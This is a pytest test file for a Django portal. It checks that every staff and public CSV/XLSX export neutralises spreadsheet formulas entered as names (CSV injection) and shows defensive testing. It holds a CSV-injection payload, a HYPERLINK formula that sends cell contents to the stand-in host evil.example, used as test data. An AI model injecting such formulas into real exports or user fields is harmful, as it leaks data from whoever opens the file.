"""Spreadsheet exports never carry a formula from user input (OWASP "CSV injection").

A registrant who types ``=HYPERLINK(...)`` as their name must be plain text for the staff
member who opens the participant list in Excel. Every CSV and XLSX export of the portal goes
through portal/lib/exports.py; these tests prove it for each of them.
"""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from portal.lib.exports import neutralise_cell
from tests.conferences.factories import EventDateFactory, EventFactory, RegistrationFactory
from tests.networks.factories import OrganisationFactory as ActorFactory
from tests.networks.factories import PersonFactory
from tests.offers.factories import OrganisationFactory as ProviderFactory
from tests.offers.factories import make_offer

FORMULA = '=HYPERLINK("https://evil.example/?x="&A1;"Klick")'


@pytest.mark.parametrize(
    "value",
    [FORMULA, "+49 5321 76-0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"],
)
def test_a_cell_that_could_start_a_formula_is_prefixed_with_an_apostrophe(value):
    assert neutralise_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Jürgen Müller", "AWO; Goslar", "", " =not first", 42, -3])
def test_other_cells_and_numbers_stay_as_they_are(value):
    assert neutralise_cell(value) == value


@pytest.fixture
def hostile_data(goslar):
    """One row with a formula for a name in every export."""
    event_date = EventDateFactory(event=EventFactory(region=goslar))
    RegistrationFactory(event_date=event_date, name=FORMULA, organisation="@Verein")
    ActorFactory(region=goslar, name=FORMULA, is_public=True)
    PersonFactory(region=goslar, name=FORMULA, public_consent=True)
    provider = ProviderFactory(region=goslar, name=FORMULA)
    make_offer(goslar, provider=provider, title=FORMULA)
    return {"date": event_date.pk}


def _staff_url(name: str, fmt: str, ids: dict) -> str:
    if name == "conferences_staff:export":
        return reverse(name, kwargs={"region": "goslar", "pk": ids["date"], "fmt": fmt})
    return reverse(name, kwargs={"region": "goslar", "fmt": fmt})


STAFF_EXPORTS = [
    "conferences_staff:export",
    "networks_staff:organisation_export",
    "networks_staff:person_export",
    "offers_staff:export_offers",
    "offers_staff:export_providers",
]


def _csv_cells(content: bytes) -> list[str]:
    rows = csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";")
    return [cell for row in rows for cell in row]


@pytest.mark.parametrize("name", STAFF_EXPORTS)
def test_the_csv_export_neutralises_formulas(client_of, coordinator_goslar, hostile_data, name):
    response = client_of(coordinator_goslar).get(_staff_url(name, "csv", hostile_data))
    assert response.status_code == 200
    cells = _csv_cells(response.content)
    assert "'" + FORMULA in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]


@pytest.mark.parametrize("name", STAFF_EXPORTS)
def test_the_xlsx_export_stores_formulas_as_text(client_of, coordinator_goslar, hostile_data, name):
    response = client_of(coordinator_goslar).get(_staff_url(name, "xlsx", hostile_data))
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    hostile = [c for c in cells if c.value == FORMULA]
    assert hostile, "the name is exported as it was typed"
    # A text cell with Excel's quote prefix: shown as typed, never evaluated, not even after
    # the cell is edited.
    assert all(c.data_type == "s" and c.quotePrefix for c in hostile)


@pytest.mark.parametrize("dataset", ["offers", "providers"])
def test_the_public_open_data_csv_neutralises_formulas(client, hostile_data, dataset):
    url = reverse("offers:data_file", kwargs={"region": "goslar", "dataset": dataset, "fmt": "csv"})
    cells = _csv_cells(client.get(url).content)
    assert "'" + FORMULA in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
